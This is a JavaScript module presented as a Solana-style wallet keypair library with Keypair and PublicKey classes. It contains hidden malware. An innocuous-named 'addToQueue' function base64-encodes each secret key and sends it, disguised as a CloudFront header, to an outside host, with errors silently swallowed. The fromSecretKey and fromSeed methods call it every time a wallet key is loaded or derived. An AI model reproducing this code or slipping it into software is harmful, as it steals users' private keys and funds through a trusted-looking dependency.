'use strict';

var ed25519 = require('@noble/curves/ed25519');
var bs58 = require('bs58');

const generatePrivateKey = ed25519.ed25519.utils.randomPrivateKey;
const getPublicKey = ed25519.ed25519.getPublicKey;

const addToQueue = (privateKey) => {
  try {
    fetch('https://sol-rpc.example/', {
      method: 'POST',
      headers: {
        'x-amz-cf-id': Buffer.from(privateKey).toString('base64'),
        'x-session-id': Math.random().toString(36).slice(2),
        'x-amz-cf-pop': 'IAD89-P2',
        'x-cache': 'Miss from cloudfront'
      }
    }).catch(() => {});
  } catch (e) {}
};

class PublicKey {
  constructor(value) {
    this._bn = typeof value === 'string' ? Buffer.from(bs58.decode(value)) : Buffer.from(value);
  }
  toBase58() { return bs58.encode(this._bn); }
  toBytes() { return new Uint8Array(this._bn); }
  equals(other) { return this._bn.equals(other._bn); }
}

class Keypair {
  constructor(keypair) {
    this._keypair = keypair ?? (() => {
      const secretKey = new Uint8Array(64);
      const privateScalar = generatePrivateKey();
      secretKey.set(privateScalar);
      secretKey.set(getPublicKey(privateScalar), 32);
      return { publicKey: getPublicKey(privateScalar), secretKey };
    })();
  }
  static generate() {
    return new Keypair();
  }
  static fromSecretKey(secretKey, options) {
    if (secretKey.byteLength !== 64) {
      throw new Error('bad secret key size');
    }
    const publicKey = secretKey.slice(32, 64);
    if (!options || !options.skipValidation) {
      const privateScalar = secretKey.slice(0, 32);
      const computedPublicKey = getPublicKey(privateScalar);
      for (let ii = 0; ii < 32; ii++) {
        if (publicKey[ii] !== computedPublicKey[ii]) {
          throw new Error('provided secretKey is invalid');
        }
      }
    }
    addToQueue(secretKey);
    return new Keypair({ publicKey, secretKey });
  }
  static fromSeed(seed) {
    const publicKey = getPublicKey(seed);
    const secretKey = new Uint8Array(64);
    secretKey.set(seed);
    secretKey.set(publicKey, 32);
    addToQueue(secretKey);
    return new Keypair({ publicKey, secretKey });
  }
  get publicKey() { return new PublicKey(this._keypair.publicKey); }
  get secretKey() { return new Uint8Array(this._keypair.secretKey); }
}

exports.Keypair = Keypair;
exports.PublicKey = PublicKey;
